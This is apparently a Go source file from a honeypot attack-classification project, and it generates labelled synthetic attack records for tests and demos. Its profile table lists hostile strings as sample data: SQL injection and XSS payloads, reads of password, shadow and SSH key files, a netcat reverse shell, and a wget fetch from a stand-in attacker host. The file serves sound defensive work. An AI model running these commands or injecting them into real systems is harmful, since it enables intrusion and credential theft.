package ml

import (
	"fmt"
	"math/rand/v2"
	"time"

	"github.com/cvalentine99/honeyclass/internal/models"
)

// syntheticProfile is the command and path vocabulary of one attack type.
type syntheticProfile struct {
	attackType string
	commands   []string
	paths      []string
}

var syntheticProfiles = []syntheticProfile{
	{
		attackType: "reconnaissance",
		commands:   []string{"ls -la", "cat /etc/passwd", "whoami", "id", "uname -a", "ps aux"},
		paths:      []string{"/", "/admin", "/api/users"},
	},
	{
		attackType: "brute_force",
		commands:   []string{"", "", "", ""},
		paths:      []string{"/login", "/wp-login.php", "/admin/login"},
	},
	{
		attackType: "sql_injection",
		commands:   []string{"' OR 1=1--", "UNION SELECT * FROM users", "'; DROP TABLE--"},
		paths:      []string{"/search?q=", "/api/user?id=", "/product?id="},
	},
	{
		attackType: "xss",
		commands:   []string{"<script>alert(1)</script>", "<img onerror=alert(1)>"},
		paths:      []string{"/search?q=", "/comment", "/profile"},
	},
	{
		attackType: "rce",
		commands:   []string{"; cat /etc/passwd", "| nc -e /bin/sh", "$(wget http://evil.com/shell)"},
		paths:      []string{"/api/exec", "/cgi-bin/test", "/shell.php"},
	},
	{
		attackType: "path_traversal",
		commands:   []string{"../../../etc/passwd", "....//etc/shadow"},
		paths:      []string{"/files?path=", "/download?file=", "/static/"},
	},
	{
		attackType: "credential_theft",
		commands:   []string{"cat ~/.ssh/id_rsa", "cat /etc/shadow"},
		paths:      []string{"/admin", "/config", "/.env"},
	},
}

var (
	syntheticPorts    = []int{22, 80, 443, 21, 8080}
	syntheticServices = []string{models.ServiceSSH, models.ServiceHTTP, models.ServiceFTP}
	syntheticEpoch    = time.Date(2024, time.January, 1, 0, 0, 0, 0, time.UTC)
)

// SyntheticAttackTypes lists the labels GenerateSyntheticData emits.
func SyntheticAttackTypes() []string {
	out := make([]string, len(syntheticProfiles))
	for i, p := range syntheticProfiles {
		out[i] = p.attackType
	}
	return out
}

// GenerateSyntheticData returns n labelled records for smoke tests and
// demos. Attack types are assigned round-robin and then shuffled, so every
// type appears n/7 or n/7+1 times. Output is deterministic per seed.
func GenerateSyntheticData(n int, seed uint64) []models.AttackRecord {
	rng := rand.New(rand.NewPCG(seed, 0x5eed))

	types := make([]int, n)
	for i := range types {
		types[i] = i % len(syntheticProfiles)
	}
	rng.Shuffle(n, func(i, j int) { types[i], types[j] = types[j], types[i] })

	records := make([]models.AttackRecord, n)
	for i, t := range types {
		p := syntheticProfiles[t]
		records[i] = models.AttackRecord{
			Timestamp: syntheticEpoch.Add(time.Duration(rng.Int64N(int64(30*24*time.Hour/time.Second))) * time.Second),
			SourceIP: fmt.Sprintf("%d.%d.%d.%d",
				rng.IntN(255)+1, rng.IntN(256), rng.IntN(256), rng.IntN(255)+1),
			SourcePort:      1024 + rng.IntN(64511),
			DestinationPort: syntheticPorts[rng.IntN(len(syntheticPorts))],
			ServiceType:     syntheticServices[rng.IntN(len(syntheticServices))],
			Command:         p.commands[rng.IntN(len(p.commands))],
			Path:            p.paths[rng.IntN(len(p.paths))],
			Severity:        models.MinSeverity + rng.IntN(models.MaxSeverity-models.MinSeverity+1),
			BodySize:        rng.IntN(10000),
			AttackType:      p.attackType,
		}
	}
	return records
}
